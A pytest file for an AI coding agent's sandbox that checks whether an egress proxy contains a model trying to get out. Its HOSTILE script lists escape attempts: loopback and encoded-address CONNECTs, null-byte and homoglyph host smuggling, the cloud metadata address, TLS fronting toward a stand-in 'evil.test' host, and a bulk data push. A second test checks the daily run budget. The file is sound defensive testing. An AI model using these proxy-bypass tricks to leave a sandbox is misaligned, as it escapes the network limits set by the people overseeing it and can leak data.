"""Draining the budget (A-37), and getting out through what is allowed (A-40). What the proxy makes of each hostile
request by itself is in tests/workspace/egress, and so is A-41."""

from collections.abc import Iterator
from pathlib import Path
from socketserver import BaseRequestHandler

import pytest

from bot.contracts.errors import ExitCode
from bot.session.event.event_context import EventOptions
from bot.session.event.run_event import run_event
from tests.support.fix_script import DONE, shell
from tests.support.loopback import Listener, Loopback, Response
from tests.support.model_server import ModelServer
from tests.support.registry import name_mirror
from tests.support.stage import Stage
from tests.support.tls import make_authority
from tests.support.verb_runs import request_in, run_verb

HOST = "packages.test"

# Everything that an obedient model could try at the proxy: each line of the output is an answer's first line.
HOSTILE = r"""
import socket, ssl, sys
PORT, EVIL = sys.argv[1:]
def say(request):
    proxy = socket.create_connection(("127.0.0.1", 3128), timeout=120)
    proxy.sendall(request)
    return proxy, proxy.recv(65536).split(b"\r\n")[0].decode()
def tunnel(name):
    proxy, _ = say(f"CONNECT packages.test:{PORT} HTTP/1.1\r\n\r\n".encode())
    return ssl._create_unverified_context().wrap_socket(proxy, server_hostname=name)
for where in (
    "127.0.0.1:EVIL", "localhost:EVIL", "[::1]:EVIL", "2130706433:EVIL", "0x7f.1:EVIL", "packages.test:EVIL",
    "packages.test\0.evil.test:PORT", "evil.test\0packages.test:PORT", "x@packages.test:PORT",
    "packages.test.evil.test:PORT", "evil-packages.test:PORT", "169.254.169.254:80", "api.github.com:443",
    "p\u0430ckages.test:PORT",
):
    where = where.replace("PORT", PORT).replace("EVIL", EVIL)
    print(say(f"CONNECT {where} HTTP/1.1\r\n\r\n".encode())[1])
print(say(f"GET http://127.0.0.1:{EVIL}/ HTTP/1.1\r\nHost: packages.test\r\n\r\n".encode())[1])
for name in ("evil.test", None):
    try:
        tunnel(name)
        print("FRONTED", name)
    except OSError:
        print("cut off")
try:
    secure = tunnel("packages.test")
    for _ in range(64):
        secure.sendall(b"x" * 65536)
    while secure.recv(65536):
        pass
    print("cut off")
except OSError:
    print("cut off")
"""


class Sink(BaseRequestHandler):
    """Takes whatever comes."""

    def handle(self) -> None:
        while self.request.recv(65536):
            pass


@pytest.fixture
def mirror(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[int, dict[str, str]]]:
    """The registry's port, and the environment that names it as the workflow's mirror."""
    trusted, server = make_authority(tmp_path, [HOST, "evil.test"])
    with Loopback(Sink, certificate=server) as index:
        yield index.port, name_mirror(monkeypatch, HOST, index.port, trusted)


@pytest.mark.bubblewrap
def test_a40_no_trick_at_the_proxy_gets_out(stage: Stage, mirror: tuple[int, dict[str, str]]):
    port, named = mirror
    policy = "version: 1\ntiers:\n  maintainer:\n    egress: [python]\n"
    stage.forge.commit(stage.repo, {".github/agent.yml": policy})
    with Listener(lambda _: Response(200, b"reached")) as evil:
        run = run_verb(
            stage,
            request_in(stage, "fix"),
            [shell(f"python3 - {port} {evil.port} <<'END'\n{HOSTILE}\nEND"), DONE],
            more=named,
        )
        assert evil.requests == []
    answers = run.results[0].splitlines()
    assert [line for line in answers if " 200 " in line or "FRONTED" in line] == []
    assert len([line for line in answers if line.startswith("HTTP/1.1 4")]) == 15
    assert answers.count("cut off") == 3
    whys = {use.why for use in run.outcome.network if use.allowed}
    assert "cut off: it sent more than a package manager has to send" in whys


def test_a37_any_number_of_triggers_starts_as_many_runs_as_a_day_has(stage: Stage, one_day: None):
    policy = "version: 1\ntiers:\n  maintainer: {runs_a_day: 2}\n"
    stage.forge.commit(stage.repo, {".github/agent.yml": policy})
    for _ in range(2):
        stage.add_run("success")
    event, token = stage.event_file(stage.sample.event), stage.bot_token()
    with ModelServer([DONE]) as server:
        for _ in range(10):
            environment = stage.environment(token, **server.environment(), **stage.job())
            ended = run_event(EventOptions("issue_comment", event), environment, print)
            assert ended.exit_code is ExitCode.REFUSED
        assert server.requests == []
    assert len(stage.bot_comments()) == 1
